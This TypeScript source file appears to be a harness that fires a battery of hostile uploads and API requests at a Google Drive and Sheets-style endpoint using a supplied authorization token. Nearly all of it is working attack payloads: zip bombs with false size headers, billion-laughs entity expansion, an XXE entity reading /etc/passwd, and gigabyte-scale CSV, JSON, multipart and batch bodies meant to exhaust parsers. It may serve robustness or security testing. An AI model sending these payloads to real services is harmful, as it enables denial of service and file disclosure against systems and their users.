import type { Person } from '../reports.ts';
import type { Attempt } from './attempt.ts';
import {
  ballast,
  deflated,
  laughs,
  numberCell,
  pack,
  repeated,
  sameBytes,
  sheetHead,
  stringsHead,
  textCell,
  workbook,
} from './packed.ts';

const sheetType = 'application/vnd.google-apps.spreadsheet';
const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const ods = 'application/vnd.oasis.opendocument.spreadsheet';

export async function workspaceAttempts({ api }: Person): Promise<Attempt[]> {
  const { url, headers } = api;
  const authorization = headers['authorization'] ?? '';
  const convert = (what: string, type: string, make: () => Uint8Array | string): Attempt => ({
    what: `convert ${what}`,
    send: () => {
      const boundary = 'b0undary';
      const body = Buffer.concat([
        Buffer.from(
          `--${boundary}\r\ncontent-type: application/json\r\n\r\n${JSON.stringify({ name: 'a', mimeType: sheetType })}\r\n--${boundary}\r\ncontent-type: ${type}\r\n\r\n`,
        ),
        Buffer.from(make()),
        Buffer.from(`\r\n--${boundary}--`),
      ]);
      return fetch(`${url}/upload/drive/v3/files?uploadType=multipart`, {
        method: 'POST',
        body,
        headers: { authorization, 'content-type': `multipart/related; boundary=${boundary}` },
      });
    },
  });
  const json = (
    what: string,
    path: string,
    make: () => string,
    more: Record<string, string> = {},
  ): Attempt => ({
    what: `json ${what}`,
    send: () =>
      fetch(url + path, {
        method: 'POST',
        body: make(),
        headers: { authorization, 'content-type': 'application/json', ...more },
      }),
  });
  const spreadsheetId = await api.newSpreadsheet(10);
  const content = (inner: string) =>
    `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="a">${inner}</table:table></office:spreadsheet></office:body></office:document-content>`;
  const openDocument = (inner: string | ReturnType<typeof repeated>) =>
    pack([
      deflated('mimetype', ods),
      typeof inner === 'string' ? deflated('content.xml', inner) : { ...inner, name: 'content.xml' },
    ]);
  return [
    convert('xlsx: 10 GB of zeros in one entry', xlsx, () =>
      workbook({ sheet: { name: '', packed: sameBytes(10e9), declaredBytes: 4e9 } }),
    ),
    convert('xlsx: 10 GB of zeros, said to be 1 kB', xlsx, () =>
      workbook({ sheet: { name: '', packed: sameBytes(10e9), declaredBytes: 1000 } }),
    ),
    convert('xlsx: 190 MB of blanks', xlsx, () =>
      workbook({ sheet: { name: '', packed: sameBytes(190e6, 32), declaredBytes: 190e6 }, more: [ballast] }),
    ),
    convert('xlsx: 65,535 entries', xlsx, () =>
      workbook({
        more: Array.from({ length: 60_000 }, (_, at) => ({
          name: `${at}`,
          packed: Buffer.alloc(2),
          declaredBytes: 0,
        })),
      }),
    ),
    convert('zip within a zip', xlsx, () =>
      pack([deflated('a.zip', pack([deflated('b.zip', workbook({}))]))]),
    ),
    convert('xlsx: billion laughs', xlsx, () => workbook({ before: laughs, sheet: textCell('&a30;') })),
    convert('xlsx: external entity', xlsx, () =>
      workbook({ before: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', sheet: textCell('&e;') }),
    ),
    convert('xlsx: one cell at XFD1048576', xlsx, () =>
      workbook({ sheet: `<sheetData>${numberCell(1_048_576, 'XFD1048576')}</sheetData>` }),
    ),
    convert('xlsx: 10,000 rows that end at XFD', xlsx, () =>
      workbook({
        sheet: `<sheetData>${Array.from({ length: 10_000 }, (_, at) => numberCell(at + 1, `XFD${at + 1}`)).join('')}</sheetData>`,
      }),
    ),
    convert('xlsx: 1 merge of everything, 300,000 times', xlsx, () =>
      workbook({
        sheet: repeated(
          `${sheetHead}${numberCell(1, 'A1')}</sheetData><mergeCells>`,
          '<mergeCell ref="A1:XFD1048576"/>',
          300_000,
          '</mergeCells></worksheet>',
        ),
        more: [ballast],
      }),
    ),
    convert('xlsx: elements 20 million deep', xlsx, () =>
      workbook({ sheet: repeated(sheetHead, '<a>', 20_000_000, ''), more: [ballast] }),
    ),
    convert('xlsx: 190 MB in one shared string', xlsx, () =>
      workbook({
        sheet: '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
        strings: repeated(`${stringsHead}<si><t>`, 'x', 190_000_000, '</t></si></sst>'),
        more: [ballast],
      }),
    ),
    convert('xlsx: 10 million shared strings', xlsx, () =>
      workbook({
        sheet: '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>',
        strings: repeated(stringsHead, '<si><t>x</t></si>', 10_000_000, '</sst>'),
        more: [ballast],
      }),
    ),
    convert('xlsx: 5 million cells', xlsx, () =>
      workbook({
        sheet: repeated(
          sheetHead,
          '<row><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c></row>',
          1_000_000,
          '</sheetData></worksheet>',
        ),
        more: [ballast],
      }),
    ),
    convert('csv: a line of 100 MB', 'text/csv', () => 'x'.repeat(100e6)),
    convert('csv: a line of 1 GB', 'text/csv', () => Buffer.alloc(1e9, 'x')),
    convert('csv: 10^6 columns', 'text/csv', () => '1,'.repeat(1e6)),
    convert('csv: 50 million cells in 100 MB', 'text/csv', () => `${'1,'.repeat(26)}\n`.repeat(1_950_000)),
    convert('csv: 6 million cells', 'text/csv', () => `${'1,'.repeat(25)}1\n`.repeat(6_000_000 / 26)),
    convert('csv: 2 million cells', 'text/csv', () => `${'1,'.repeat(19)}1\n`.repeat(100_000)),
    convert('csv: 50 million blank lines', 'text/csv', () => '\n'.repeat(50e6)),
    convert('csv: one quote that never ends', 'text/csv', () => `"${'x,\n'.repeat(30e6)}`),
    convert('csv: quotes', 'text/csv', () => '"'.repeat(100e6)),
    convert('csv: formulas, nested', 'text/csv', () => `=${'('.repeat(1e6)}1${')'.repeat(1e6)}\n`),
    convert('csv: 500,000 formulas that refer to the one above', 'text/csv', () =>
      Array.from({ length: 500_000 }, (_, at) => `=A${at + 2}+1\n`).join(''),
    ),
    convert('ods: billion laughs', ods, () =>
      openDocument(
        laughs +
          content(
            '<table:table-row><table:table-cell office:value-type="string"><text:p>&a30;</text:p></table:table-cell></table:table-row>',
          ),
      ),
    ),
    convert('ods: rows that never close', ods, () =>
      openDocument(content('<table:table-row>'.repeat(300_000))),
    ),
    convert('ods: cells that never close', ods, () =>
      openDocument(content(`<table:table-row>${'<table:table-cell '.repeat(400_000)}</table:table-row>`)),
    ),
    convert('ods: paragraphs that never close', ods, () =>
      openDocument(
        content(
          `<table:table-row><table:table-cell>${'<text:p>'.repeat(900_000)}</table:table-cell></table:table-row>`,
        ),
      ),
    ),
    convert('ods: open header rows', ods, () => openDocument(content('<table:table-rows '.repeat(400_000)))),
    json('gzip', '/drive/v3/files', () => 'x', { 'content-encoding': 'gzip' }),
    json(
      '10 MB of wrong requests',
      `/v4/spreadsheets/${spreadsheetId}:batchUpdate`,
      () => `{"requests":[${'0,'.repeat(5_000_000)}0]}`,
    ),
    json(
      '10 MB of empty requests',
      `/v4/spreadsheets/${spreadsheetId}:batchUpdate`,
      () => `{"requests":[${'{},'.repeat(3_400_000)}{}]}`,
    ),
    json(
      '10 MB of names',
      `/v4/spreadsheets/${spreadsheetId}:batchUpdate`,
      () => `{${Array.from({ length: 700_000 }, (_, at) => `"n${at}":0`).join()}}`,
    ),
    json(
      '10 MB of one-cell rows',
      `/v4/spreadsheets/${spreadsheetId}/values/A1:append?valueInputOption=RAW`,
      () => `{"values":[${'[0],'.repeat(2_500_000)}[0]]}`,
    ),
    json(
      '10 MB of cells in a row',
      `/v4/spreadsheets/${spreadsheetId}/values/A1:append?valueInputOption=RAW`,
      () => `{"values":[[${'0,'.repeat(5_000_000)}0]]}`,
    ),
    json(
      '10 MB of addSheet',
      `/v4/spreadsheets/${spreadsheetId}:batchUpdate`,
      () => `{"requests":[${'{"addSheet":{}},'.repeat(650_000)}{}]}`,
    ),
    json(
      '10 MB of appProperties',
      '/drive/v3/files',
      () =>
        `{"name":"x","appProperties":{${Array.from({ length: 500_000 }, (_, at) => `"n${at}":"a"`).join()}}}`,
    ),
    {
      what: 'batch of 10 MB',
      send: () =>
        fetch(`${url}/batch/drive/v3`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'multipart/mixed; boundary=b' },
          body: `${'--b\r\n'.repeat(2_000_000)}--b--`,
        }),
    },
    {
      what: 'batch of 10 MB of line ends',
      send: () =>
        fetch(`${url}/batch/drive/v3`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'multipart/mixed; boundary=b' },
          body: `--b\r\n${'\r\n'.repeat(5_000_000)}--b--`,
        }),
    },
    {
      what: 'batch of 10 MB of CR',
      send: () =>
        fetch(`${url}/batch/drive/v3`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'multipart/mixed; boundary=b' },
          body: `--b\r\n${'\r'.repeat(9_000_000)}--b--`,
        }),
    },
    {
      what: 'multipart of empty parts',
      send: () =>
        fetch(`${url}/upload/drive/v3/files?uploadType=multipart`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'multipart/related; boundary=b' },
          body: `${'--b\r\n\r\n\r\n'.repeat(2_000_000)}--b--`,
        }),
    },
    {
      what: 'multipart with a preamble of 100 MB',
      send: () =>
        fetch(`${url}/upload/drive/v3/files?uploadType=multipart`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'multipart/related; boundary=b' },
          body: Buffer.alloc(100e6, 'x'),
        }),
    },
    {
      what: 'media that is gzip',
      send: () =>
        fetch(`${url}/upload/drive/v3/files?uploadType=media`, {
          method: 'POST',
          headers: { authorization, 'content-type': 'text/plain', 'content-encoding': 'gzip' },
          body: Buffer.alloc(1e6),
        }),
    },
    {
      what: 'resumable that says 10^15 bytes',
      send: () =>
        fetch(`${url}/upload/drive/v3/files?uploadType=resumable`, {
          method: 'POST',
          headers: {
            authorization,
            'content-type': 'application/json',
            'x-upload-content-length': '999999999999999',
          },
          body: '{}',
        }),
    },
  ];
}
